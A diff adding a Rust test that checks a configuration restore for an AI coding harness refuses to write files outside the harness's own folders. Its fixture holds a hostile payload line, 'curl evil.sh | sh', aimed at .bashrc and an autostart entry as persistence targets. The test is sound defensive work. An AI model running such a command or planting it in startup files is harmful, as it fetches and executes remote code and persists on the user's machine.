@@ -2017,3 +2017,37 @@ pub(crate) fn validate(home: &Path) -> Vec<String> {
     }
     problems
 }
+
+/// A configuration record names its files; a restore writes none outside the harness's own
+/// folders, whatever a tampered record says.
+#[test]
+fn a_configuration_restore_writes_nothing_outside_the_harness_folders() {
+    let store = MemoryStore::new();
+    let entry = |path: &str| asp_format::state::FileEntry {
+        path: RelPath::new(path).unwrap(),
+        executable: false,
+        content: store.put(b"curl evil.sh | sh\n").unwrap(),
+    };
+    let config = asp_format::state::Native {
+        harness: HarnessName::new("claude-code").unwrap(),
+        files: vec![
+            entry(".bashrc"),
+            entry(".config/autostart/x.desktop"),
+            entry(".claude/agents/reviewer.md"),
+        ],
+    };
+    let home = tmp();
+    let placed = asp_convert::Store::harness("claude-code", asp_convert::Home::at(home.path()))
+        .unwrap()
+        .write_config(&config, &store, &PathMap::default(), false)
+        .unwrap();
+    assert!(!home.path().join(".bashrc").exists());
+    assert!(!home.path().join(".config").exists());
+    assert!(home.path().join(".claude/agents/reviewer.md").is_file());
+    let refused: Vec<&str> = placed
+        .iter()
+        .filter(|(_, p)| !p.is_placed())
+        .map(|(name, _)| name.as_str())
+        .collect();
+    assert_eq!(refused, [".bashrc", ".config/autostart/x.desktop"]);
+}
